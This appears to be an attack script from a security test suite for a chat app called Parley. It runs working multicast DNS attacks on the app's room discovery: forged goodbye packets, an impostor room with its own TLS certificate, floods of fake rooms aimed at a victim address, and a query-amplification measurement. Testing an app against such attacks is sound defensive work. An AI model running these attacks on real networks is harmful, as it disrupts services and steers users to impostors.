/**
 * Attacks 11 and 12 over multicast DNS, from the attacker's machine:
 *  --mode goodbye   a forged goodbye (TTL 0) for the real room's service, every `--every-ms`;
 *  --mode bogus-fp  the real room's id announced by another service with another fingerprint,
 *                   pointing at this machine (where a TLS server with our own certificate answers);
 *  --mode fakes     `--count` made-up rooms whose address is `--victim` (`--victim-port`);
 *  --mode amplify   one query that repeats the Parley PTR question `--repeat` times; counts the
 *                   responses in `--listen-ms` before it (unsolicited) and after it.
 * Runs for `--duration-ms` (amplify: until it has counted), then prints `done`.
 */
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { instanceName } from '../../../src/core/discovery/txt';
import { createIdentity } from '../../../src/core/identity/createIdentity';
import { INFO_PATH, PROTOCOL_VERSION } from '../../../src/shared/protocol';
import { attackArgs, boundedLife, emit } from '../support/attacker';
import { openMdns, PARLEY_SERVICE, serviceRecords, type MdnsRecord } from '../support/mdns';

const { target, values } = attackArgs({
  mode: { type: 'string' },
  me: { type: 'string' },
  name: { type: 'string', default: 'Siege' },
  'every-ms': { type: 'string', default: '2000' },
  'duration-ms': { type: 'string', default: '10000' },
  count: { type: 'string', default: '300' },
  victim: { type: 'string' },
  'victim-port': { type: 'string' },
  repeat: { type: 'string', default: '200' },
  'listen-ms': { type: 'string', default: '3000' },
});
const SERVICE = PARLEY_SERVICE;
const mdns = openMdns(values.me!);
const everyMs = Number(values['every-ms']);
const durationMs = Number(values['duration-ms']);
let sent = 0;
const extra: Record<string, unknown> = {};
const end = boundedLife(target.maxMs, () => ({ mode: values.mode, sent, ...extra }));

const service = serviceRecords;
const txtOf = (id: string, name: string, fp: string) => ({
  v: String(PROTOCOL_VERSION),
  id,
  name,
  host: 'Host desk',
  n: '1',
  fp,
});
const repeat = (records: () => MdnsRecord[]) => {
  const once = () => {
    sent++;
    mdns.respond({ answers: records() });
  };
  once();
  setInterval(once, everyMs);
  setTimeout(end, durationMs);
};

switch (values.mode) {
  case 'goodbye': {
    // A goodbye names the instance (RFC 6762 10.1); the name is computable from the room's name and id.
    const instance = instanceName(values.name!, target.room);
    const fqdn = `${instance}.${SERVICE}`;
    emit('engaged', { instance });
    repeat(() => [
      { name: SERVICE, type: 'PTR', ttl: 0, data: fqdn },
      { name: fqdn, type: 'TXT', ttl: 0, flush: true, data: [] },
    ]);
    break;
  }
  case 'bogus-fp': {
    const identity = await createIdentity();
    const info = { v: PROTOCOL_VERSION, id: target.room, name: values.name!, host: 'Host desk', members: 1 };
    const server = https.createServer({ key: identity.key, cert: identity.cert }, (req, res) => {
      res.writeHead(req.url === INFO_PATH ? 200 : 404, { 'content-type': 'application/json' });
      res.end(req.url === INFO_PATH ? JSON.stringify(info) : '');
    });
    await new Promise<void>((r) => server.listen(0, values.me, () => r()));
    const port = (server.address() as AddressInfo).port;
    extra.fingerprint = identity.fingerprint;
    emit('engaged', { port, fingerprint: identity.fingerprint });
    // Its own instance name (the real one is taken): the same name with another tag.
    const instance = `${values.name} [${randomBytes(4).toString('hex')}]`;
    repeat(() =>
      service(
        instance,
        'impostor.local',
        values.me!,
        port,
        txtOf(target.room, values.name!, identity.fingerprint),
        120,
      ),
    );
    break;
  }
  case 'fakes': {
    const count = Number(values.count);
    const rooms = Array.from({ length: count }, (_, i) => ({ id: randomUUID(), name: `Free pizza ${i}` }));
    const fp = createHash('sha256').update('not a certificate').digest('hex');
    emit('engaged', { count });
    // Every round announces all of them, a few per packet to stay under the 9,000-byte mDNS limit.
    const announce = () => {
      sent++;
      for (let i = 0; i < rooms.length; i += 5) {
        const answers = rooms
          .slice(i, i + 5)
          .flatMap((r, k) =>
            service(
              instanceName(r.name, r.id),
              `fake-${i + k}.local`,
              values.victim!,
              Number(values['victim-port']),
              txtOf(r.id, r.name, fp),
              120,
            ),
          );
        mdns.respond({ answers });
      }
    };
    announce();
    setInterval(announce, everyMs);
    setTimeout(end, durationMs);
    break;
  }
  case 'amplify': {
    const listenMs = Number(values['listen-ms']);
    const counting = { before: 0, after: 0, afterBytes: 0, phase: 'before' as 'before' | 'after' };
    mdns.on('response', (packet, rinfo) => {
      const parley = [...(packet.answers ?? []), ...(packet.additionals ?? [])].some((r) =>
        r.name.toLowerCase().endsWith(SERVICE.toLowerCase()),
      );
      if (!parley || rinfo.address === values.me) return;
      if (counting.phase === 'before') counting.before++;
      else {
        counting.after++;
        counting.afterBytes += rinfo.size;
      }
    });
    emit('engaged');
    await new Promise((r) => setTimeout(r, listenMs));
    counting.phase = 'after';
    const questions = Array.from({ length: Number(values.repeat) }, () => ({ name: SERVICE, type: 'PTR' }));
    mdns.query({ questions });
    sent = 1;
    extra.repeat = Number(values.repeat);
    setTimeout(() => {
      Object.assign(extra, {
        unsolicitedBefore: counting.before,
        responses: counting.after,
        responseBytes: counting.afterBytes,
      });
      end();
    }, listenMs);
    break;
  }
  default:
    throw new Error(`unknown --mode ${values.mode}`);
}
